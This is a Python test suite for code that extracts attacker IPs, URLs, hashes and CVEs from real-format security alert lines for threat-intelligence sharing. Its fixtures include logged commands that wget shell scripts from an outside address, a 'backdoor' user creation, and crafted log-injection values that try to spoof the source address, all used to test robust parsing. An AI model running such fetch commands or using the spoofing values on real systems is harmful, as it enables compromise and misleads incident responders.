"""Indicator extraction on real-format alert lines (docs/triage.md, "Extracting the attacker IP")."""

from __future__ import annotations

import dataclasses
import json
import time
from ipaddress import IPv4Address, IPv6Address, ip_network

import pytest
from hypothesis import given
from hypothesis import strategies as st

from misp_bridge.pandora.iocs import Extraction, Ioc, extract, parse_json_alert, refang, validate_ip

SSH_FAILED = "Oct 11 10:04:05 web01 sshd[2211]: Failed password for root from 185.220.101.4 port 51234 ssh2"

# The user name chosen by the attacker holds a complete "from X port N".
SSH_INJECTED = (
    "sshd[2214]: Failed password for invalid user x from 6.6.6.6 port 22 from 91.240.118.172 port 5555 ssh2"
)

EVE_ALERT = {
    "timestamp": "2023-10-11T14:35:10.123456+0000",
    "flow_id": 1234567890,
    "in_iface": "eth0",
    "event_type": "alert",
    "src_ip": "89.248.165.52",
    "src_port": 48000,
    "dest_ip": "192.0.2.10",
    "dest_port": 22,
    "proto": "TCP",
    "alert": {
        "action": "allowed",
        "gid": 1,
        "signature_id": 2001219,
        "rev": 20,
        "signature": "ET SCAN Potential SSH Scan",
        "category": "Attempted Information Leak",
        "severity": 2,
        "metadata": {"mitre_technique_id": ["T1046"], "mitre_tactic_id": ["TA0007"]},
    },
}
WAZUH_ALERT = {
    "timestamp": "2023-10-11T14:36:00.000+0000",
    "rule": {
        "level": 10,
        "description": "sshd: brute force trying to get access to the system.",
        "id": "5712",
    },
    "agent": {"id": "001", "name": "web01", "ip": "192.0.2.10"},
    "data": {"srcip": "45.155.205.233", "srcuser": "root"},
    "full_log": "Oct 11 14:36:00 web01 sshd[77]: Failed password for root from 45.155.205.233 port 2222 ssh2",
    "location": "/var/log/auth.log",
}
ECS_ALERT = {
    "event": {"kind": "alert"},
    "source": {"ip": "80.94.92.10"},
    "destination": {"ip": "2001:db8::10"},
}

# (text, expected source value, expected destination value, expected source comment)
SIDE_CASES = [
    pytest.param(SSH_FAILED, "185.220.101.4", None, "sshd 'from X port N'", id="sshd-failed-password"),
    pytest.param(
        "Oct 11 10:04:06 web01 sshd[2212]: Invalid user admin from 91.240.118.172 port 40022",
        "91.240.118.172",
        None,
        "sshd 'from X port N'",
        id="sshd-invalid-user",
    ),
    pytest.param(
        "Oct 11 10:05:00 web01 sshd[2300]: Accepted password for deploy "
        "from 2a01:4f8:c17:b8f::2 port 50111 ssh2",
        "2a01:4f8:c17:b8f::2",
        None,
        "sshd 'from X port N'",
        id="sshd-accepted-ipv6",
    ),
    pytest.param(
        "Oct 11 10:04:07 web01 sshd[2213]: "
        "Failed password for invalid user from 10.10.1.1 from 198.51.100.7 port 22",
        "198.51.100.7",
        None,
        "sshd 'from X port N'",
        id="sshd-injection-triage-example",
    ),
    pytest.param(
        SSH_INJECTED,
        "91.240.118.172",
        None,
        "sshd 'from X port N'",
        id="sshd-injection-rightmost-wins",
    ),
    pytest.param(
        "sshd[2215]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
        "rhost=91.240.118.172  user=root",
        "91.240.118.172",
        None,
        "PAM rhost=X",
        id="pam-rhost",
    ),
    pytest.param(
        "sshd[2216]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
        "rhost=91.240.118.172  user=x rhost=6.6.6.6",
        "91.240.118.172",
        None,
        "PAM rhost=X",
        id="pam-rhost-user-injection",
    ),
    pytest.param(
        "[Wed Oct 11 14:32:52.123456 2023] [authz_core:error] [pid 1234:tid 140] "
        "[client 185.191.171.35:51234] "
        "AH01630: client denied by server configuration: /var/www/html/.env",
        "185.191.171.35",
        None,
        "Apache error log [client X]",
        id="apache-error-client-port",
    ),
    pytest.param(
        "[Wed Oct 11 14:32:52 2023] [error] [client 185.191.171.35] File does not exist: /var/www/phpmyadmin",
        "185.191.171.35",
        None,
        "Apache error log [client X]",
        id="apache22-error-client",
    ),
    pytest.param(
        "[Wed Oct 11 14:32:53.1 2023] [core:error] [pid 9:tid 9] [client 2a01:4f8:c17:b8f::2:51234] AH00126: "
        "Invalid URI in request GET /x HTTP/1.1",
        "2a01:4f8:c17:b8f::2",
        None,
        "Apache error log [client X]",
        id="apache-error-client-ipv6-port",
    ),
    pytest.param(
        "[Wed Oct 11 14:32:54.1 2023] [core:error] [pid 9:tid 9] [client 185.191.171.35:40000] AH00126: "
        "Invalid URI in request GET /[client 6.6.6.6] HTTP/1.1",
        "185.191.171.35",
        None,
        "Apache error log [client X]",
        id="apache-error-request-injection",
    ),
    pytest.param(
        '185.191.171.35 - - [11/Oct/2023:14:32:52 +0000] "GET /wp-login.php HTTP/1.1" 404 196 "-" '
        '"Mozilla/5.0 6.6.6.6 - - [11/Oct/2023:14:32:52 +0000]"',
        "185.191.171.35",
        None,
        "Apache access log client",
        id="apache-access-user-agent-injection",
    ),
    pytest.param(
        'example.com:443 185.191.171.35 - - [11/Oct/2023:14:32:52 +0000] "GET / HTTP/1.1" 200 5 '
        '"-" "curl/8.0"',
        "185.191.171.35",
        None,
        "Apache access log client",
        id="apache-access-vhost-combined",
    ),
    pytest.param(
        "An account failed to log on. Logon Type: 10 Network Information: Workstation Name: KALI "
        "Source Network Address: 45.141.84.120 Source Port: 0",
        "45.141.84.120",
        None,
        "Windows event Source Network Address",
        id="windows-4625-text",
    ),
    pytest.param(
        '<Event><EventData><Data Name="LogonType">10</Data><Data Name="IpAddress">::ffff:45.141.84.120</Data>'
        "</EventData></Event>",
        "45.141.84.120",
        None,
        "Windows event IpAddress",
        id="windows-4625-xml-mapped",
    ),
    pytest.param(
        "Oct 11 14:33:01 fw kernel: [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 "
        "SRC=45.155.205.233 DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=52345 "
        "DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0",
        "45.155.205.233",
        "192.0.2.10",
        "firewall/CEF src=X",
        id="iptables",
    ),
    pytest.param(
        "CEF:0|Fortinet|FortiGate|7.2.5|0419016384|ips: attack detected|7|src=80.94.92.10 dst=198.51.100.20 "
        "spt=4444 dpt=445 proto=6 act=blocked",
        "80.94.92.10",
        "198.51.100.20",
        "firewall/CEF src=X",
        id="cef",
    ),
    pytest.param(
        "10/11/2023-14:35:10.123456  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] "
        "[Classification: Attempted Information Leak] [Priority: 2] "
        "{TCP} 89.248.165.52:48000 -> 192.0.2.10:22",
        "89.248.165.52",
        "192.0.2.10",
        "Suricata fast.log source",
        id="suricata-fast-ipv4",
    ),
    pytest.param(
        "10/11/2023-14:35:11.000001  [**] [1:2200094:2] SURICATA zero length padN option [**] "
        "[Classification: (null)] [Priority: 3] {IPV6-ICMP} 2a00:1450:4007:0818:0000:0000:0000:200e:0 -> "
        "2001:0db8:0000:0000:0000:0000:0000:0010:0",
        "2a00:1450:4007:818::200e",
        "2001:db8::10",
        "Suricata fast.log source",
        id="suricata-fast-ipv6",
    ),
    pytest.param(json.dumps(EVE_ALERT), "89.248.165.52", "192.0.2.10", "JSON src_ip", id="suricata-eve-json"),
    pytest.param(
        "<13>Oct 11 14:35:10 ids suricata[42]: " + json.dumps(EVE_ALERT),
        "89.248.165.52",
        "192.0.2.10",
        "JSON src_ip",
        id="suricata-eve-json-syslog-prefix",
    ),
    pytest.param(json.dumps(WAZUH_ALERT), "45.155.205.233", None, "JSON data.srcip", id="wazuh-json"),
    pytest.param(
        json.dumps(ECS_ALERT), "80.94.92.10", "2001:db8::10", "JSON source.ip", id="ecs-json-nested"
    ),
    pytest.param(
        json.dumps({"source.ip": "80.94.92.10"}), "80.94.92.10", None, "JSON source.ip", id="ecs-json-flat"
    ),
    pytest.param(
        "Failed password for root from 185.220.101[.]4 port 22 ssh2",
        "185.220.101.4",
        None,
        "sshd 'from X port N'",
        id="defanged-anchor",
    ),
    pytest.param(
        "Oct 11 10:00:00 a sshd[1]: Accepted publickey for admin from 10.0.0.2 port 22 ssh2\n" + SSH_FAILED,
        "10.0.0.2",
        None,
        "sshd 'from X port N'",
        id="multi-line-first-line-wins",
    ),
]


@pytest.mark.parametrize(("text", "source", "destination", "comment"), SIDE_CASES)
def test_source_and_destination(text: str, source: str, destination: str | None, comment: str) -> None:
    result = extract(text)
    assert result.source_ip is not None
    assert (result.source_ip.type, result.source_ip.value, result.source_ip.comment) == (
        "ip-src",
        source,
        comment,
    )
    if destination is None:
        assert result.destination_ip is None
    else:
        assert result.destination_ip is not None
        assert (result.destination_ip.type, result.destination_ip.value) == ("ip-dst", destination)
    assert source not in {ioc.value for ioc in result.other_ips}


def test_injected_addresses_are_only_other_ips() -> None:
    result = extract(SSH_INJECTED)
    assert [ioc.value for ioc in result.other_ips] == ["6.6.6.6"]
    assert result.other_ips[0].comment == "address in the alert text"


def test_eve_json_keeps_the_alert_object() -> None:
    result = extract(json.dumps(EVE_ALERT))
    assert result.json_data is not None
    assert result.json_data["alert"]["metadata"]["mitre_technique_id"] == ["T1046"]
    assert result.json_data["alert"]["signature"] == "ET SCAN Potential SSH Scan"


def test_json_field_settles_the_side_even_when_not_reportable() -> None:
    # The payload holds an sshd-looking line; the JSON field names the agent itself (outbound alert).
    alert = {"src_ip": "192.0.2.10", "dest_ip": "45.9.148.3", "payload_printable": "from 6.6.6.6 port 22"}
    result = extract(json.dumps(alert), own_addresses=["192.0.2.10"])
    assert result.source_ip is None
    assert result.destination_ip is not None and result.destination_ip.value == "45.9.148.3"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("2001:db8::1", IPv6Address("2001:db8::1"), id="ipv6-compressed"),
        pytest.param("2001:0DB8:0000:0000:0000:0000:0000:0001", IPv6Address("2001:db8::1"), id="ipv6-full"),
        pytest.param("[2001:db8::1]", IPv6Address("2001:db8::1"), id="ipv6-brackets"),
        pytest.param("fe80::1%eth0", IPv6Address("fe80::1"), id="ipv6-zone-id"),
        pytest.param("[fe80::1%eth0.100]", IPv6Address("fe80::1"), id="ipv6-brackets-zone-id"),
        pytest.param("::ffff:203.0.113.9", IPv4Address("203.0.113.9"), id="ipv4-mapped-unwrapped"),
        pytest.param(" 185.220.101.4 ", IPv4Address("185.220.101.4"), id="ipv4-whitespace"),
        pytest.param("192.030.0.6", None, id="leading-zero"),
        pytest.param("010.1.1.1", None, id="leading-zero-first-octet"),
        pytest.param("::ffff:192.030.0.6", None, id="leading-zero-in-mapped"),
        pytest.param("999.1.1.1", None, id="octet-999"),
        pytest.param("256.1.1.1", None, id="octet-256"),
        pytest.param("1.2.3.4.5", None, id="version-string"),
        pytest.param("1.2.3", None, id="three-octets"),
        pytest.param("10:04:05", None, id="timestamp"),
        pytest.param("1.2.3.4%eth0", None, id="zone-on-ipv4"),
        pytest.param("1.2.3.4:80", None, id="with-port"),
        pytest.param("\u0661.\u0662.\u0663.\u0664", None, id="non-ascii-digits"),
        pytest.param("example.com", None, id="host-name"),
        pytest.param("", None, id="empty"),
    ],
)
def test_validate_ip(text: str, expected: IPv4Address | IPv6Address | None) -> None:
    assert validate_ip(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("seen 185.220.101[.]4 today", "seen 185.220.101.4 today", id="last-dot-bracketed"),
        pytest.param("185[.]220[.]101[.]4", "185.220.101.4", id="all-dots-bracketed"),
        pytest.param("185.220.101(.)4", "185.220.101.4", id="dot-in-parentheses"),
        pytest.param("185.220.101[dot]4", "185.220.101.4", id="dot-word"),
        pytest.param("hxxp://evil[.]ru/a", "http://evil.ru/a", id="hxxp"),
        pytest.param("hXXps[:]//evil[.]ru/a", "https://evil.ru/a", id="hxxps-bracketed-colon"),
        pytest.param("hXxP://evil[.]ru/a", "http://evil.ru/a", id="hxxp-mixed-case"),
        pytest.param("bad[@]evil[.]ru", "bad@evil.ru", id="email-at"),
        pytest.param("plain text", "plain text", id="unchanged"),
    ],
)
def test_refang(text: str, expected: str) -> None:
    assert refang(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("185.220.101[.]4 scanned us", ["185.220.101.4"], id="defanged-last-dot"),
        pytest.param("185[.]220[.]101[.]4 scanned us", ["185.220.101.4"], id="defanged-all-dots"),
        pytest.param("185.220.101(.)4 scanned us", ["185.220.101.4"], id="defanged-parentheses"),
        pytest.param("peer 2001:db8:[:]5 down", ["2001:db8::5"], id="defanged-colon"),
        pytest.param(
            "connect to [2606:4700:4700::1111]:443 failed", ["2606:4700:4700::1111"], id="v6-brackets-port"
        ),
        pytest.param("peer 2a00:1450:4007:818::200e%eth0 up", ["2a00:1450:4007:818::200e"], id="v6-zone-id"),
        pytest.param("client ::ffff:185.220.101.4 connected", ["185.220.101.4"], id="v6-mapped-v4"),
        pytest.param("Blocked 185.220.101.4.", ["185.220.101.4"], id="sentence-final-dot"),
        pytest.param("OpenSSL 1.2.3.4.5 loaded", [], id="version-five-parts"),
        pytest.param("agent v4.3.2.1 started", [], id="version-v-prefix"),
        pytest.param("Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36", [], id="user-agent-version"),
        pytest.param("lookup 45.9.148.3.nip.io", [], id="address-inside-host-name"),
        pytest.param("at 10:04:05 and 23:59:59.123", [], id="timestamps-not-ipv6"),
        pytest.param("MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00", [], id="mac-header"),
        pytest.param("from 192.030.0.6 and 010.8.8.8", [], id="leading-zeros"),
        pytest.param("999.1.1.1 and 256.256.256.256", [], id="octet-over-255"),
        pytest.param("1.1.1.1 then 1.1.1.1 and ::ffff:1.1.1.1", ["1.1.1.1"], id="deduplicated"),
    ],
)
def test_guarded_scan(text: str, expected: list[str]) -> None:
    result = extract(text)
    assert (result.source_ip, result.destination_ip) == (None, None)
    assert [ioc.value for ioc in result.other_ips] == expected


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("127.0.0.1", id="loopback-v4"),
        pytest.param("::1", id="loopback-v6"),
        pytest.param("169.254.10.1", id="link-local-v4"),
        pytest.param("fe80::1", id="link-local-v6"),
        pytest.param("224.0.0.251", id="multicast-v4"),
        pytest.param("ff02::1", id="multicast-v6"),
        pytest.param("0.0.0.0", id="unspecified-v4"),
        pytest.param("::", id="unspecified-v6"),
        pytest.param("0.1.2.3", id="this-network"),
        pytest.param("255.255.255.255", id="broadcast"),
        pytest.param("240.0.0.1", id="reserved-v4"),
    ],
)
def test_never_reported_addresses(address: str) -> None:
    result = extract(f"sshd[1]: Failed password for root from {address} port 22 ssh2 (peer {address})")
    assert (result.source_ip, result.other_ips) == (None, ())


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("10.1.2.3", id="rfc1918-10"),
        pytest.param("172.16.5.4", id="rfc1918-172"),
        pytest.param("192.168.1.20", id="rfc1918-192"),
        pytest.param("100.64.0.9", id="cgnat"),
        pytest.param("198.51.100.7", id="documentation-v4"),
        pytest.param("fd12:3456:789a::1", id="ula"),
        pytest.param("2001:db8::7", id="documentation-v6"),
    ],
)
def test_private_and_documentation_marked_internal(address: str) -> None:
    result = extract(f"sshd[1]: Failed password for root from {address} port 22 ssh2")
    assert result.source_ip == Ioc(
        "ip-src", address, to_ids=False, internal=True, comment="sshd 'from X port N'"
    )


def test_public_address_is_a_detection_indicator() -> None:
    result = extract(SSH_FAILED)
    assert result.source_ip == Ioc(
        "ip-src", "185.220.101.4", to_ids=True, internal=False, comment="sshd 'from X port N'"
    )


@pytest.mark.parametrize(
    "own",
    [
        pytest.param(["185.220.101.4"], id="ipv4"),
        pytest.param(["web01", "::ffff:185.220.101.4"], id="mapped-and-a-name"),
    ],
)
def test_own_address_excluded(own: list[str]) -> None:
    result = extract(SSH_FAILED + " again 185.220.101.4", own_addresses=own)
    assert (result.source_ip, result.other_ips) == (None, ())


def test_never_report_networks_excluded() -> None:
    text = SSH_FAILED + " and 2a01:4f8:c17:b8f::2 and 91.240.118.172"
    nets = [ip_network("185.220.100.0/22"), ip_network("2a01:4f8::/32")]
    result = extract(text, never_report=nets)
    assert result.source_ip is None
    assert [ioc.value for ioc in result.other_ips] == ["91.240.118.172"]


def test_excluded_source_falls_to_the_next_line_only() -> None:
    lines = "sshd[1]: Accepted publickey for a from 192.0.2.10 port 22 ssh2\n" + SSH_FAILED
    result = extract(lines, own_addresses=["192.0.2.10"])
    assert result.source_ip is not None and result.source_ip.value == "185.220.101.4"


def test_outbound_firewall_line_has_no_source() -> None:
    text = "kernel: [UFW ALLOW] IN= OUT=eth0 SRC=192.0.2.10 DST=45.9.148.3 PROTO=TCP SPT=40000 DPT=4444"
    result = extract(text, own_addresses=["192.0.2.10"])
    assert result.source_ip is None
    assert result.ioc_for("source") is None
    assert result.ioc_for("destination") == Ioc(
        "ip-dst", "45.9.148.3", to_ids=True, comment="firewall/CEF dst=X"
    )


@pytest.mark.parametrize(
    ("text", "side", "expected"),
    [
        pytest.param(SSH_FAILED, "source", ("ip-src", "185.220.101.4"), id="source-stated"),
        pytest.param(
            "blocked 10.0.0.8 and 91.240.118.172",
            "source",
            ("ip-src", "91.240.118.172"),
            id="source-fallback-public",
        ),
        pytest.param(
            "blocked 10.0.0.8", "destination", ("ip-dst", "10.0.0.8"), id="destination-fallback-retyped"
        ),
        pytest.param(SSH_FAILED, "destination", None, id="destination-never-the-source-side"),
        pytest.param(
            "sudo: bob : COMMAND=/usr/bin/wget http://45.9.148.3/x.sh",
            "none",
            ("ip-dst", "45.9.148.3"),
            id="none-url-host-is-ip-dst",
        ),
        pytest.param(
            "useradd[77]: new user: name=backdoor; session from 185.220.101.4",
            "none",
            ("ip-src", "185.220.101.4"),
            id="none-plain-address-is-ip-src",
        ),
        pytest.param("sudo: bob : user NOT in sudoers ; TTY=pts/0", "none", None, id="none-nothing-invented"),
        pytest.param(
            "sshd[1]: Accepted password for x from 10.0.0.5 port 22 ssh2; wget http://45.9.148.3/a",
            "none",
            ("ip-dst", "45.9.148.3"),
            id="none-prefers-public",
        ),
    ],
)
def test_ioc_for(text: str, side: str, expected: tuple[str, str] | None) -> None:
    ioc = extract(text).ioc_for(side)  # type: ignore[arg-type]
    assert (None if ioc is None else (ioc.type, ioc.value)) == expected


def _extras(text: str, **kwargs: object) -> list[tuple[str, str, bool]]:
    return [(i.type, i.value, i.to_ids) for i in extract(text, **kwargs).extras]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(
            "GET hxxp://evil[.]bad-host.ru/payload.sh",
            [("url", "http://evil.bad-host.ru/payload.sh", True), ("domain", "evil.bad-host.ru", True)],
            id="defanged-url-and-domain",
        ),
        pytest.param(
            "see (https://Malware.Example-Bad.com/a?b=1).",
            [
                ("url", "https://Malware.Example-Bad.com/a?b=1", True),
                ("domain", "malware.example-bad.com", True),
            ],
            id="url-trailing-punctuation",
        ),
        pytest.param(
            "fetch http://[2606:4700::1111]:8080/x done",
            [("url", "http://[2606:4700::1111]:8080/x", True)],
            id="url-ipv6-host-no-domain",
        ),
        pytest.param(
            "wget http://45.9.148.3/x.sh", [("url", "http://45.9.148.3/x.sh", True)], id="url-ip-host"
        ),
        pytest.param(
            "http://intranet.corp/x",
            [("url", "http://intranet.corp/x", False), ("domain", "intranet.corp", False)],
            id="url-site-local-name",
        ),
        pytest.param(
            "curl http://localhost/x", [("url", "http://localhost/x", False)], id="url-single-label"
        ),
        pytest.param(
            "curl http://127.0.0.1:8080/x", [("url", "http://127.0.0.1:8080/x", False)], id="url-loopback"
        ),
        pytest.param(
            "From: Evil <Evil.Sender@Phish-Mail.com>",
            [("email", "evil.sender@phish-mail.com", True)],
            id="email",
        ),
        pytest.param(
            "ftp://anonymous@files.bad-host.ru/x",
            [("url", "ftp://anonymous@files.bad-host.ru/x", True), ("domain", "files.bad-host.ru", True)],
            id="no-email-inside-url",
        ),
        pytest.param(
            "md5=D41D8CD98F00B204E9800998ECF8427E",
            [("md5", "d41d8cd98f00b204e9800998ecf8427e", True)],
            id="md5-lowered",
        ),
        pytest.param(
            "sha1: da39a3ee5e6b4b0d3255bfef95601890afd80709",
            [("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709", True)],
            id="sha1",
        ),
        pytest.param(
            "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            [("sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", True)],
            id="sha256",
        ),
        pytest.param("x d41d8cd98f00b204e9800998ecf8427e0 y", [], id="hex-run-33-not-md5"),
        pytest.param(
            "sha512 " + "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce" * 2,
            [],
            id="no-substring-of-longer-run",
        ),
        pytest.param("file_d41d8cd98f00b204e9800998ecf8427e", [], id="hash-glued-to-word"),
        pytest.param("id 12345678901234567890123456789012", [], id="all-digits-not-a-hash"),
        pytest.param(
            "exploit cve-2021-44228 and CVE-2023-4966",
            [("vulnerability", "CVE-2021-44228", False), ("vulnerability", "CVE-2023-4966", False)],
            id="cve-upper-cased",
        ),
        pytest.param(
            "CVE-2021-44228 CVE-2021-44228", [("vulnerability", "CVE-2021-44228", False)], id="deduplicated"
        ),
    ],
)
def test_extras(text: str, expected: list[tuple[str, str, bool]]) -> None:
    assert _extras(text) == expected


def test_url_host_of_the_agent_is_not_a_detection_domain() -> None:
    got = _extras("POST http://web01.acme-shop.com/login", own_addresses=["web01.acme-shop.com"])
    assert got == [
        ("url", "http://web01.acme-shop.com/login", False),
        ("domain", "web01.acme-shop.com", False),
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param('{"a": 1}', {"a": 1}, id="object"),
        pytest.param('  \n{"a": 1}\n ', {"a": 1}, id="whitespace-wrapped"),
        pytest.param('<13>Oct 11 14:35:10 ids suricata[42]: {"a": 1}', {"a": 1}, id="syslog-prefix"),
        pytest.param("[1, 2]", None, id="array"),
        pytest.param('{"a": 1} trailing', None, id="trailing-text"),
        pytest.param('{"a": ', None, id="truncated"),
        pytest.param("{TCP} 1.2.3.4:1 -> 5.6.7.8:2", None, id="fast-log-braces"),
        pytest.param(SSH_FAILED, None, id="plain-line"),
        pytest.param("{" * 100_000, None, id="hostile-nesting"),
    ],
)
def test_parse_json_alert(text: str, expected: dict[str, int] | None) -> None:
    assert parse_json_alert(text) == expected


def test_json_with_no_ip() -> None:
    result = extract('{"event": "disk full", "agent": "web01", "free": "1.5 GB"}')
    assert result == Extraction(
        None, None, (), (), {"event": "disk full", "agent": "web01", "free": "1.5 GB"}
    )


def test_empty_text() -> None:
    assert extract("") == Extraction(None, None, (), (), None)


def test_ioc_is_frozen() -> None:
    with pytest.raises(dataclasses.FrozenInstanceError):
        Ioc("url", "http://x.ru", to_ids=True).value = "y"  # type: ignore[misc]


def test_indicators_are_capped_per_kind() -> None:
    text = " ".join(f"91.{i // 250}.{i % 250}.7" for i in range(1000))
    assert len(extract(text).other_ips) == 100


KIB128 = 128 * 1024


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("1." * (KIB128 // 2), id="dotted-digits"),
        pytest.param("1:" * (KIB128 // 2), id="colon-digits"),
        pytest.param(":" * KIB128, id="colons"),
        pytest.param("a" * KIB128, id="one-long-word"),
        pytest.param("0" * KIB128, id="one-long-hex-run"),
        pytest.param("from " * (KIB128 // 5), id="from-repeated"),
        pytest.param("a@" * (KIB128 // 2), id="at-signs"),
        pytest.param("a." * (KIB128 // 2), id="dotted-letters"),
        pytest.param("http://" * (KIB128 // 7), id="url-schemes"),
        pytest.param("[client " * (KIB128 // 8), id="apache-anchors"),
        pytest.param("x " * (KIB128 // 2), id="short-words"),
        pytest.param("{" * KIB128, id="open-braces"),
        pytest.param("hxxp[:]//1[.]" * (KIB128 // 13), id="defanged-noise"),
        pytest.param("1.1.1.1 " * (KIB128 // 8), id="same-address"),
        pytest.param(("a" * 79 + " ") * (KIB128 // 80), id="access-log-shape"),
    ],
)
def test_pathological_input_is_fast(text: str) -> None:
    started = time.perf_counter()
    extract(text)
    assert time.perf_counter() - started < 2.0


# "Public": globally routable unicast (Python counts multicast as global).
@given(st.ip_addresses(v=4).filter(lambda a: a.is_global and not a.is_multicast))
def test_any_public_ipv4_is_the_sshd_source(address: IPv4Address) -> None:
    result = extract(f"Failed password for root from {address} port 22 ssh2")
    assert result.source_ip is not None
    assert result.source_ip.value == str(address)
